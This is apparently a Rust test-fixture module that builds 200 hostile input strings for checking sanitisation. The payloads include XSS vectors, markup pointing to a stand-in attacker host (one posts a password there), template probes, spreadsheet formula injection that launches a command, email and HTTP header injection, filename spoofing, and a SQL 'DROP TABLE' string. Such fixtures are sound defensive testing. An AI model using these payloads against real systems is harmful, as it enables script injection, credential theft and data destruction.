//! Strings that try to become something else: markup, addresses, templates, formulas, headers.

/// What each kind of interpreter would act upon.
const ATTEMPTS: [&str; 50] = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<a href=//evil.example>x</a>",
    "<!-- --><![CDATA[x]]>--!>",
    "<details open ontoggle=alert(1)>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "' onfocus='alert(1)' autofocus='",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "` onfocus=`alert(1)` autofocus=`",
    " autofocus onfocus=alert(1) x=",
    "\" style=\"position:fixed;inset:0",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "{{page.organisation}}",
    "{{{words}}} {{> head}} {{#each this}}",
    "{{lookup this 'constructor'}}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "%s%n%x {0} {n_word} *{site}*",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|x",
    "-2+3",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r\nBcc: evil@evil.example\r\n\r\nbody",
    "x\nSet-Cookie: a=b",
    "=?utf-8?q?=0aBcc:_evil@evil.example?=",
    "\u{202e}gnp.exe\u{202c}",
    "\u{2066}abc\u{2067}\u{2068}def\u{2069}",
    "\u{feff}\u{2028}\u{2029}x\u{7}\u{1b}[31m",
    "'; DROP TABLE comment; --",
];

/// Two hundred of them: alone, within words, behind words and a thousand times over.
pub fn hostile() -> Vec<String> {
    let alone = ATTEMPTS.iter().map(|attempt| (*attempt).to_owned());
    let within = ATTEMPTS.iter().map(|attempt| format!("Priya {attempt} Nair"));
    let behind = ATTEMPTS
        .iter()
        .map(|attempt| format!("So kind\u{200b}!\"'{attempt}"));
    let long = ATTEMPTS
        .iter()
        .map(|attempt| format!("{attempt}{}", attempt.repeat(3)));
    alone.chain(within).chain(behind).chain(long).collect()
}
